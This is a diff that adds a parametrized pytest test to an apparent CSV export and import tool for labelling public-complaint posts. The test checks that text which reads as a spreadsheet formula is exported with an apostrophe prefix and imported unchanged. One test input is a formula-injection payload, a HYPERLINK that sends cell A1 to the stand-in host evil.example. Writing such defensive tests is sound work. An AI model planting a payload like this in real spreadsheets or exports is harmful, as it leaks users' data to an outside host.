@@ -56,6 +56,31 @@ def test_export_rows_carry_the_prediction_and_empty_correction_columns(tmp_path:
     assert row["correct_sentiment"] == row["correct_category"] == row["correct_agencies"] == ""
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+        "+62 812 jalan rusak",
+        "-- sampah numpuk lagi",
+        "@dpupr_banten jalan rusak",
+        "\tSUM(1+1)",
+        "'=1+1",  # an apostrophe of its own survives the round trip
+    ],
+)
+def test_a_post_that_reads_as_a_formula_is_exported_as_text_and_imported_unchanged(
+    tmp_path: Path, text: str
+) -> None:
+    row = export_row("x:1", {**DOC, "text": text})
+    row["correct_sentiment"] = "negative"
+    path = tmp_path / "labels.csv"
+    write_export([row], path)
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        (cell,) = [r["text"] for r in csv.DictReader(fh)]
+    assert cell == "'" + text  # a spreadsheet shows it as text instead of running it
+    (correction,) = read_corrections_csv(path, by="rina").corrections
+    assert correction.text == text.strip()  # the import strips cells, as it always did
+
+
 def test_export_query_keeps_the_window_and_agency_and_leaves_official_posts_out() -> None:
     now = datetime(2026, 12, 3, tzinfo=UTC)
     query = export_query(timedelta(days=7), "dpupr", now=now)
